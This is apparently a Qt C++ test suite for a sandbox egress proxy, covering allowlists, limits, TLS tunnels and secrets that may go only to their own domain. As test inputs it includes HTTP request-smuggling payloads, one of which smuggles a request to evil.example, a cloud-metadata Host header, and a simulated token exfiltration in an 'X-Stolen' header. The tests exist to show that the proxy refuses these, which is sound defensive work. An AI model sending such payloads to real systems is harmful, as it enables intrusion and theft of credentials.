    // Upper case and a trailing dot in the SNI are the same name.
    const std::unique_ptr<QSslSocket> same =
        openTunnel("localhost:" + QByteArray::number(up), str("LOCALHOST"));
    QVERIFY(same);
    QVERIFY(waitUntil([&] { return same->isEncrypted(); }));
}

void TestEgressProxy::nonTlsTunnelClosed()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    client.send("CONNECT localhost:" + QByteArray::number(up) + " HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\n\r\n");
    const auto established = client.response(true);
    QVERIFY(established);
    QCOMPARE(established->status, 200);
    QVERIFY(client.waitClosed());
    QVERIFY(m_plain->requests.isEmpty());
    QTRY_COMPARE(m_finished->size(), 1);
    QVERIFY2(records(*m_finished).first().reason.contains(str("not a TLS connection")),
             qPrintable(records(*m_finished).first().reason));
}

void TestEgressProxy::hostHeaderMismatchRefused()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    client.send("GET http://localhost:" + QByteArray::number(up) +
                "/ HTTP/1.1\r\nHost: metadata.google.internal\r\n\r\n");
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY(response->body.contains("the Host field \"metadata.google.internal\" disagrees"));
    Client origin(m_port);
    origin.send("GET / HTTP/1.1\r\nHost: localhost:" + QByteArray::number(up) + "\r\n\r\n");
    QCOMPARE(origin.response()->status, 400);
    QVERIFY(m_plain->requests.isEmpty());
    QVERIFY(m_resolver->lookups.isEmpty());
}

void TestEgressProxy::smugglingRefused_data()
{
    QTest::addColumn<QByteArray>("afterTarget");
    QTest::addColumn<int>("status");
    // Malformed framing in the body is found after the head went upstream; the answer is the same.
    QTest::newRow("CL.TE") << QByteArray(
                                  " HTTP/1.1\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n"
                                  "0\r\n\r\nGET http://evil.example/ HTTP/1.1\r\n\r\n")
                           << 400;
    QTest::newRow("double CL") << QByteArray(" HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: 40\r\n\r\n")
                               << 400;
    QTest::newRow("obs-fold") << QByteArray(" HTTP/1.1\r\nX: a\r\n Transfer-Encoding: chunked\r\n\r\n")
                              << 400;
    QTest::newRow("bare LF") << QByteArray(" HTTP/1.1\nTransfer-Encoding: chunked\n\n0\n\n") << 400;
    QTest::newRow("chunk ext LF") << QByteArray(" HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                                                "3;x\nabc\r\n0\r\n\r\n")
                                  << 400;
    QTest::newRow("chunk CRLF missing") << QByteArray(" HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
                                                      "3\r\nabcXX0\r\n\r\n")
                                        << 400;
    QTest::newRow("space before colon")
        << QByteArray(" HTTP/1.1\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n") << 400;
}

void TestEgressProxy::smugglingRefused()
{
    QFETCH(QByteArray, afterTarget);
    QFETCH(int, status);
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client client(m_port);
    client.send("POST http://localhost:" + QByteArray::number(up) + "/x" + afterTarget);
    QVERIFY(client.waitClosed());
    const auto response = client.response();
    QVERIFY(response);
    QCOMPARE(response->status, status);
    QVERIFY(response->body.startsWith("bad request: "));
    // Whatever the upstream may have seen of the head, no request reached it complete, and nothing smuggled
    // behind the body was parsed as a request.
    QVERIFY(m_plain->requests.isEmpty());
    QTRY_VERIFY(!m_finished->isEmpty());
    QCOMPARE(records(*m_finished).last().decision, Decision::Error);
}

void TestEgressProxy::portsAndSchemes()
{
    setPolicy(R"(["localhost"])");
    const QList<QByteArray> requests{
        "CONNECT localhost:22 HTTP/1.1\r\n\r\n", "CONNECT localhost:25 HTTP/1.1\r\n\r\n",
        "GET ftp://localhost/ HTTP/1.1\r\n\r\n", "GET gopher://localhost:70/ HTTP/1.1\r\n\r\n"};
    for (const QByteArray &request : requests) {
        Client client(m_port);
        client.send(request);
        const auto response = client.response(true);
        QVERIFY(response);
        QCOMPARE(response->status, 403);
    }
    QVERIFY(m_resolver->lookups.isEmpty());
}

void TestEgressProxy::upstreamFailures()
{
    QTcpServer closed;
    QVERIFY(closed.listen(QHostAddress::LocalHost));
    // A port nobody listens on any more.
    const quint16 closedNumber = closed.serverPort();
    const QByteArray closedPort = QByteArray::number(closedNumber);
    closed.close();
    setPolicy("[" + localRule(closedNumber) + R"(, "nxdomain.test", "slow.test"])");
    m_resolver->answers[str("nxdomain.test")] = {Resolution{{}, str("Host not found")}};
    m_resolver->silent.insert(str("slow.test"));

    Client refused(m_port);
    refused.send("GET http://localhost:" + closedPort + "/ HTTP/1.1\r\n\r\n");
    auto response = refused.response();
    QVERIFY(response);
    QCOMPARE(response->status, 502);
    QVERIFY2(response->body.startsWith("upstream error: cannot connect to localhost (127.0.0.1)"),
             response->body.constData());

    Client nx(m_port);
    nx.send("GET http://nxdomain.test/ HTTP/1.1\r\n\r\n");
    response = nx.response();
    QVERIFY(response);
    QCOMPARE(response->status, 502);
    QCOMPARE(
        response->body,
        QByteArray("upstream error: DNS failure: nxdomain.test could not be resolved (Host not found)\n"));

    Client slow(m_port);
    slow.send("CONNECT slow.test:443 HTTP/1.1\r\n\r\n");
    response = slow.response(true, 5000);
    QVERIFY(response);
    QCOMPARE(response->status, 502);
    QVERIFY(response->body.contains("took longer than 1 s"));
    QTRY_COMPARE(m_finished->size(), 3);
    for (const ConnectionRecord &record : records(*m_finished))
        QCOMPARE(record.decision, Decision::Error);
}

void TestEgressProxy::orgPolicyApplies()
{
    const quint16 up = m_plain->serverPort();
    m_proxy->updatePolicy(Container, allowlist("[" + localRule(up) + "]"));
    // The default organisation list is empty: nothing passes until one is set.
    Client none(m_port);
    none.send("GET http://localhost:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    auto response = none.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY2(response->body.contains("is not in the organisation allowlist"), response->body.constData());

    // The organisation allows the host but not private addresses: the container's permission is not enough.
    m_proxy->setOrgPolicy(orgList(R"(["localhost:)" + QByteArray::number(up) + "\"]"));
    Client noPrivate(m_port);
    noPrivate.send("GET http://localhost:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    response = noPrivate.response();
    QVERIFY(response);
    QCOMPARE(response->status, 403);
    QVERIFY2(response->body.contains("resolved to a private address"), response->body.constData());

    m_proxy->setOrgPolicy(orgList("[" + localRule(up) + "]"));
    Client both(m_port);
    both.send("GET http://localhost:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    QCOMPARE(both.response()->status, 200);
}

void TestEgressProxy::policyUpdateClosesOpenTunnel()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    const quint16 plain = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    const std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + QByteArray::number(up), str("localhost"));
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    // An unrelated change keeps the tunnel.
    m_proxy->updatePolicy(Container, allowlist("[" + localRule(up) + ", " + localRule(plain) + "]"));
    QTest::qWait(50);
    QCOMPARE(socket->state(), QAbstractSocket::ConnectedState);
    // Removing the host cuts it at once.
    m_proxy->updatePolicy(Container, allowlist("[" + localRule(plain) + "]"));
    QVERIFY(waitUntil([&] { return socket->state() == QAbstractSocket::UnconnectedState; }));
    QTRY_COMPARE(m_finished->size(), 1);
    const ConnectionRecord record = records(*m_finished).first();
    QCOMPARE(record.decision, Decision::Denied);
    QVERIFY2(
        record.reason.startsWith(str("the policy changed: port %1 is not allowed for localhost").arg(up)),
        qPrintable(record.reason));
    QVERIFY(record.bytesDown > 0);
    QTRY_COMPARE(m_proxy->connectionCount(Container), 0);
}

void TestEgressProxy::orgNarrowingClosesOpenTunnel()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    setPolicy("[" + localRule(up) + "]");
    const std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + QByteArray::number(up), str("localhost"));
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    m_proxy->setOrgPolicy(orgList(R"(["pypi.org"])"));
    QVERIFY(waitUntil([&] { return socket->state() == QAbstractSocket::UnconnectedState; }));
    QTRY_COMPARE(m_finished->size(), 1);
    QVERIFY(records(*m_finished).first().reason.contains(str("organisation allowlist")));
}

void TestEgressProxy::connectionLimit()
{
    setPolicy("[" + localRule(m_plain->serverPort()) + "]");
    m_limits.maxConnections = 2;
    m_proxy->setLimits(Container, m_limits);
    Client first(m_port);
    Client second(m_port);
    QTRY_COMPARE(m_proxy->connectionCount(Container), 2);
    Client third(m_port);
    const auto response = third.response();
    QVERIFY(response);
    QCOMPARE(response->status, 429);
    QCOMPARE(response->body,
             QByteArray("blocked by sandbox policy: too many concurrent connections (limit 2)\n"));
    QVERIFY(third.waitClosed());
    QTRY_COMPARE(m_finished->size(), 1);
    QCOMPARE(records(*m_finished).first().decision, Decision::Denied);
    QCOMPARE(records(*m_finished).first().status, 429);
    // The first two still work.
    first.send("GET http://localhost:" + QByteArray::number(m_plain->serverPort()) + "/ HTTP/1.1\r\n\r\n");
    QCOMPARE(first.response()->status, 200);
}

void TestEgressProxy::byteLimit()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    m_limits.maxBytesPerConnection = 100 * 1024;
    m_proxy->setLimits(Container, m_limits);
    Client client(m_port);
    client.send("GET http://localhost:" + QByteArray::number(up) + "/big?n=1000000 HTTP/1.1\r\n\r\n");
    QVERIFY(client.waitClosed());
    QVERIFY(client.received.size() <= 100 * 1024);
    QTRY_COMPARE(m_finished->size(), 1);
    const ConnectionRecord record = records(*m_finished).first();
    QCOMPARE(record.decision, Decision::Denied);
    QCOMPARE(record.reason, str("more than 102400 bytes on one connection (limit)"));
    QVERIFY(record.bytesDown > 0 && record.bytesDown <= 100 * 1024);
}

void TestEgressProxy::idleTimeout()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    setPolicy("[" + localRule(up) + "]");
    m_limits.idleTimeoutMs = 300;
    m_proxy->setLimits(Container, m_limits);
    const std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + QByteArray::number(up), str("localhost"));
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    QVERIFY(waitUntil([&] { return socket->state() == QAbstractSocket::UnconnectedState; }, 3000));
    QTRY_COMPARE(m_finished->size(), 1);
    QCOMPARE(records(*m_finished).first().reason, str("idle for 0.3 s"));
    QCOMPARE(records(*m_finished).first().decision, Decision::Allowed);
}

void TestEgressProxy::removeListenerClosesEverything()
{
    const quint16 up = m_plain->serverPort();
    setPolicy("[" + localRule(up) + "]");
    Client idle(m_port);
    Client busy(m_port);
    busy.send("GET http://localhost:" + QByteArray::number(up) + "/ HTTP/1.1\r\n\r\n");
    QVERIFY(busy.response());
    QTRY_COMPARE(m_proxy->connectionCount(Container), 2);
    m_proxy->removeListener(Container);
    QVERIFY(!m_proxy->hasListener(Container));
    QVERIFY(idle.waitClosed());
    QVERIFY(busy.waitClosed());
    // The listening socket is gone too.
    QTcpSocket late;
    late.connectToHost(QHostAddress::LocalHost, m_port);
    QVERIFY(waitUntil([&] { return late.state() == QAbstractSocket::UnconnectedState; }));
}

void TestEgressProxy::curlThroughProxy()
{
    const QString curl = QStandardPaths::findExecutable(str("curl"));
    if (curl.isEmpty())
        SKIP_UNLESS_MUST_WORK("curl is not installed");
    const quint16 up = m_plain->serverPort();
    QByteArray rules = "[" + localRule(up);
    if (m_haveTls)
        rules += ", " + localRule(m_tls->serverPort());
    setPolicy(rules + "]");
    const QString proxy = QStringLiteral("http://127.0.0.1:%1").arg(m_port);
    const auto run = [&](const QStringList &arguments, QByteArray &output) {
        QProcess process;
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        for (const char *name : {"http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY",
                                 "all_proxy", "NO_PROXY", "no_proxy"})
            environment.remove(str(name));
        process.setProcessEnvironment(environment);
        process.start(curl, QStringList{str("-sS"), str("--max-time"), str("10"), str("--proxy"), proxy} +
                                arguments);
        // Not waitForFinished(): the proxy runs in this thread's event loop.
        if (!waitUntil([&] { return process.state() == QProcess::NotRunning; }, 15000))
            return -1;
        output = process.readAllStandardOutput() + process.readAllStandardError();
        return process.exitCode();
    };
    QByteArray output;
    QCOMPARE(run({QStringLiteral("http://localhost:%1/curl").arg(up)}, output), 0);
    QCOMPARE(output, QByteArray("upstream saw GET /curl body="));

    QCOMPARE(run({str("-w"), str("%{http_code}"), str("http://example.com/")}, output), 0);
    QCOMPARE(output,
             QByteArray("blocked by sandbox policy: example.com is not in this container's allowlist\n403"));

    if (m_haveTls) {
        QCOMPARE(run({str("--cacert"), m_dir.filePath(str("ca.pem")),
                      QStringLiteral("https://localhost:%1/secure").arg(m_tls->serverPort())},
                     output),
                 0);
        QCOMPARE(output, QByteArray("secure hello /secure"));
        // HTTPS to a host that is not allowed: the CONNECT gets 403 and curl gives up (exit 56).
        QCOMPARE(run({str("https://example.com/")}, output), 56);
        QVERIFY2(output.contains("403"), output.constData());
    }
    QVERIFY(!m_resolver->lookups.contains(str("example.com")));
}

void TestEgressProxy::pythonUrllibThroughProxy()
{
    const QString python = QStandardPaths::findExecutable(str("python3"));
    if (python.isEmpty())
        SKIP_UNLESS_MUST_WORK("python3 is not installed");
    const quint16 up = m_plain->serverPort();
    QByteArray rules = "[" + localRule(up);
    if (m_haveTls)
        rules += ", " + localRule(m_tls->serverPort());
    setPolicy(rules + "]");
    const QString script = str(R"(
import ssl, sys, urllib.error, urllib.request
proxy, plain, tls, ca = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
handlers = [urllib.request.ProxyHandler({"http": proxy, "https": proxy})]
if ca:
    handlers.append(urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=ca)))
opener = urllib.request.build_opener(*handlers)
print(opener.open("http://localhost:%s/py" % plain, timeout=10).read().decode())
try:
    opener.open("http://example.com/", timeout=10)
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode().strip())
if ca:
    print(opener.open("https://localhost:%s/pys" % tls, timeout=10).read().decode())
    try:
        opener.open("https://example.com/", timeout=10)
    except urllib.error.URLError as error:
        print("https denied:", "403" in str(error.reason))
)");
    QProcess process;
    QProcessEnvironment environment;
    environment.insert(str("PATH"), qEnvironmentVariable("PATH"));
    process.setProcessEnvironment(environment);
    process.start(python, {str("-c"), script, QStringLiteral("http://127.0.0.1:%1").arg(m_port),
                           QString::number(up), m_haveTls ? QString::number(m_tls->serverPort()) : str("0"),
                           m_haveTls ? m_dir.filePath(str("ca.pem")) : QString()});
    QVERIFY(waitUntil([&] { return process.state() == QProcess::NotRunning; }, 30000));
    const QByteArray output = process.readAllStandardOutput();
    QVERIFY2(process.exitCode() == 0, process.readAllStandardError().constData());
    QByteArray expected = "upstream saw GET /py body=\n"
                          "403 blocked by sandbox policy: example.com is not in this container's allowlist\n";
    if (m_haveTls)
        expected += "secure hello /pys\nhttps denied: True\n";
    QCOMPARE(output, expected);
}

namespace {

const QByteArray TokenPlaceholder = "cordon-placeholder-API_TOKEN-0123456789abcdef0123456789abcdef";
const QByteArray OtherPlaceholder = "cordon-placeholder-OTHER-fedcba9876543210fedcba9876543210";

} // namespace

// API_TOKEN may go to localhost, OTHER to upstream.test (both names of the TLS upstream); 127.0.0.1 is the
// same server without a secret. The upstream's own certificate comes from the test CA, which the proxy is
// told to trust.
std::shared_ptr<InterceptionAuthority> TestEgressProxy::setDomainSecrets(quint16 port)
{
    const QByteArray ports =
        "[" + QByteArray::number(port) + ", " + QByteArray::number(m_plain->serverPort()) + "]";
    // localhost only for GET /v1: a rule with methods or paths allows a CONNECT the proxy terminates, and
    // applies to each request inside.
    setPolicy(R"([{"domain": "localhost", "ports": )" + ports +
              R"(, "methods": ["GET"], "path_prefixes": ["/v1"], "allow_private_addresses": true},
                  {"domain": "upstream.test", "ports": )" +
              ports + R"(, "allow_private_addresses": true},
                  {"domain": "127.0.0.1", "ports": )" +
              ports + R"(, "allow_private_addresses": true}])");
    m_resolver->answers.insert(str("upstream.test"), {answer({"127.0.0.1"})});
    auto authority = InterceptionAuthority::create(Container, {str("localhost"), str("upstream.test")});
    if (!authority)
        qFatal("no authority: %s", authority.error().message().c_str());
    m_proxy->setDomainSecrets(
        Container,
        std::make_shared<const DomainSecrets>(QList<DomainSecretValue>{
            {str("API_TOKEN"), {str("localhost")}, TokenPlaceholder, "real-api-token-1234"},
            {str("OTHER"), {str("upstream.test")}, OtherPlaceholder, "other-secret-5678"}}),
        *authority);
    m_proxy->setUpstreamTrust({m_ca});
    return *authority;
}

// Opens a tunnel trusting `trusted`, sends `request` once TLS is up, and returns what came back when
// `complete` says so; empty when the tunnel or the answer did not come.
QByteArray TestEgressProxy::askThroughTunnel(const QByteArray &authority, const QString &serverName,
                                             const QSslCertificate &trusted, const QByteArray &request,
                                             const std::function<bool(const QByteArray &)> &complete)
{
    const std::unique_ptr<QSslSocket> socket = openTunnel(authority, serverName, trusted);
    if (!socket || !waitUntil([&] { return socket->isEncrypted(); }))
        return {};
    socket->write(request);
    QByteArray reply;
    return waitUntil([&] {
        reply += socket->readAll();
        return complete(reply);
    })
               ? reply
               : QByteArray();
}

void TestEgressProxy::domainSecretsGoOnlyToTheirDomain()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    const QByteArray port = QByteArray::number(up);
    const std::shared_ptr<InterceptionAuthority> authority = setDomainSecrets(up);

    // To its own domain: the proxy terminates TLS with the container's authority, and the upstream gets the
    // value in the URL and in a header, never the placeholder.
    std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + port, str("localhost"), authority->certificate());
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    QCOMPARE(socket->peerCertificate().issuerInfo(QSslCertificate::CommonName),
             QStringList{str("Cordon container c1 CA")});
    socket->write("GET /v1 HTTP/1.1\r\nHost: localhost:" + port + "\r\nAuthorization: Bearer " +
                  TokenPlaceholder + "\r\n\r\n");
    QByteArray reply;
    QVERIFY(waitUntil([&] {
        reply += socket->readAll();
        return reply.endsWith("secure hello /v1");
    }));
    QCOMPARE(m_tls->heads.size(), 1);
    QVERIFY2(m_tls->heads.first().contains("\r\nAuthorization: Bearer real-api-token-1234\r\n"),
             m_tls->heads.first().constData());
    QVERIFY(!m_tls->heads.first().contains("cordon-placeholder"));
    QTRY_VERIFY(m_finished->size() >= 2);
    QList<ConnectionRecord> seen = records(*m_finished);
    // A server that repeats the value: the sandbox gets as many '*' as it has bytes, never the value. (A new
    // tunnel each time: the upstream closes after each answer.)
    const QByteArray stars = "auth=Bearer " + QByteArray(int(qstrlen("real-api-token-1234")), '*');
    const auto refusedAnswer = [](const QByteArray &got) {
        return got.endsWith("\n") && got.contains("403");
    };
    reply = askThroughTunnel("localhost:" + port, str("localhost"), authority->certificate(),
                             "GET /v1/echo HTTP/1.1\r\nHost: localhost:" + port +
                                 "\r\nAuthorization: Bearer " + TokenPlaceholder + "\r\n\r\n",
                             [&](const QByteArray &got) { return got.endsWith(stars); });
    QVERIFY2(reply.contains(QByteArray("secure hello /v1/echo " + stars)), reply.constData());
    QVERIFY(!reply.contains("real-api-token-1234"));

    // Never in the URL, which servers echo back.
    reply = askThroughTunnel("localhost:" + port, str("localhost"), authority->certificate(),
                             "GET /v1?key=" + TokenPlaceholder + " HTTP/1.1\r\nHost: localhost:" + port +
                                 "\r\n\r\n",
                             refusedAnswer);
    QVERIFY2(reply.contains("not in the URL"), reply.constData());
    QCOMPARE(m_tls->heads.size(), 2);

    // The rule's paths hold inside the tunnel.
    reply = askThroughTunnel("localhost:" + port, str("localhost"), authority->certificate(),
                             "GET /admin HTTP/1.1\r\nHost: localhost:" + port + "\r\n\r\n", refusedAnswer);
    QVERIFY2(reply.contains("path /admin not allowed for localhost"), reply.constData());
    QCOMPARE(m_tls->heads.size(), 2);
    QCOMPARE(seen.at(0).method, str("CONNECT"));
    QVERIFY(seen.at(0).tlsTerminated);
    QCOMPARE(seen.at(0).status, 200);
    QCOMPARE(seen.at(1).method, str("GET"));
    QCOMPARE(seen.at(1).path, str("/v1"));
    QCOMPARE(seen.at(1).decision, Decision::Allowed);
    QCOMPARE(seen.at(1).secretsSent, QStringList{str("API_TOKEN")});
    QVERIFY(seen.at(1).tlsTerminated);
    socket.reset();
    m_finished->clear();

    // The same placeholder to another domain the proxy terminates: refused inside the tunnel, recorded, and
    // nothing reaches the upstream.
    socket = openTunnel("upstream.test:" + port, str("upstream.test"), authority->certificate());
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    socket->write("GET /collect HTTP/1.1\r\nHost: upstream.test:" + port +
                  "\r\nX-Stolen: " + TokenPlaceholder + "\r\n\r\n");
    reply.clear();
    QVERIFY(waitUntil([&] {
        reply += socket->readAll();
        return reply.contains("\r\n\r\n") && reply.endsWith("\n");
    }));
    QVERIFY2(reply.startsWith("HTTP/1.1 403 "), reply.constData());
    QVERIFY(reply.endsWith("blocked by sandbox policy: secret API_TOKEN may only be sent to localhost\n"));
    QCOMPARE(m_tls->heads.size(), 2);
    QTRY_VERIFY(m_finished->size() >= 2);
    seen = records(*m_finished);
    QCOMPARE(seen.at(1).decision, Decision::Denied);
    QCOMPARE(seen.at(1).status, 403);
    QCOMPARE(seen.at(1).secretRefused, str("API_TOKEN"));
    socket.reset();
    m_finished->clear();

    // Plain HTTP: to another allowed host, and to the secret's own domain without TLS. Both refused.
    for (const QByteArray &host : {QByteArray("127.0.0.1"), QByteArray("localhost")}) {
        Client client(m_port);
        client.send("GET http://" + host + ":" + QByteArray::number(m_plain->serverPort()) +
                    "/v1 HTTP/1.1\r\nAuthorization: " + TokenPlaceholder + "\r\n\r\n");
        const auto refused = client.response();
        QVERIFY(refused);
        QCOMPARE(refused->status, 403);
        QVERIFY2(
            refused->body.contains(host == "localhost" ? "only over HTTPS" : "may only be sent to localhost"),
            refused->body.constData());
    }
    QVERIFY(m_plain->requests.isEmpty());
    QTRY_COMPARE(m_finished->size(), 2);
    for (const ConnectionRecord &record : records(*m_finished))
        QCOMPARE(record.secretRefused, str("API_TOKEN"));
    m_finished->clear();

    // A host without a domain secret stays a blind tunnel: the client sees the upstream's own certificate
    // (it trusts only the test CA here), and what it sends inside is not read.
    const int handshakes = m_tls->handshakes;
    socket = openTunnel("127.0.0.1:" + port, str("127.0.0.1"), m_ca);
    QVERIFY(socket);
    QVERIFY(waitUntil([&] { return socket->isEncrypted(); }));
    QCOMPARE(socket->peerCertificate(), m_certificate);
    socket->write("GET /blind HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Token: " + OtherPlaceholder + "\r\n\r\n");
    reply.clear();
    QVERIFY(waitUntil([&] {
        reply += socket->readAll();
        return reply.endsWith("secure hello /blind");
    }));
    QCOMPARE(m_tls->handshakes, handshakes + 1);
    QVERIFY(m_tls->heads.last().contains(OtherPlaceholder));
    QTRY_COMPARE(m_finished->size(), 1);
    QVERIFY(!records(*m_finished).first().tlsTerminated);
}

void TestEgressProxy::domainSecretUpstreamMustBeTrusted()
{
    if (!m_haveTls)
        SKIP_UNLESS_MUST_WORK("no openssl command or no TLS in Qt");
    const quint16 up = m_tls->serverPort();
    const std::shared_ptr<InterceptionAuthority> authority = setDomainSecrets(up);

    // An upstream whose certificate the host does not trust never gets the secret: the CONNECT is refused
    // before any tunnel exists.
    m_proxy->setUpstreamTrust({});
    Client client(m_port);
    client.send("CONNECT localhost:" + QByteArray::number(up) + " HTTP/1.1\r\n\r\n");
    const auto refused = client.response();
    QVERIFY(refused);
    QCOMPARE(refused->status, 502);
    QTRY_COMPARE(m_finished->size(), 1);
    ConnectionRecord record = records(*m_finished).first();
    QCOMPARE(record.decision, Decision::Denied);
    QVERIFY2(record.reason.contains(str("is not trusted")), qPrintable(record.reason));
    QVERIFY(m_tls->heads.isEmpty());
    m_finished->clear();

    // A program that does not trust the container's authority ends its own handshake; recorded as such.
    m_proxy->setUpstreamTrust({m_ca});
    const std::unique_ptr<QSslSocket> socket =
        openTunnel("localhost:" + QByteArray::number(up), str("localhost"));
    QVERIFY(socket);
    QTRY_COMPARE(m_finished->size(), 1);
    record = records(*m_finished).first();
    QCOMPARE(record.decision, Decision::Error);
    QVERIFY2(record.reason.contains(str("did not accept the proxy's certificate")),
             qPrintable(record.reason));
    QVERIFY(!socket->isEncrypted());
    QVERIFY(m_tls->heads.isEmpty());
}

QTEST_GUILESS_MAIN(TestEgressProxy)
#include "tst_egressproxy.moc"
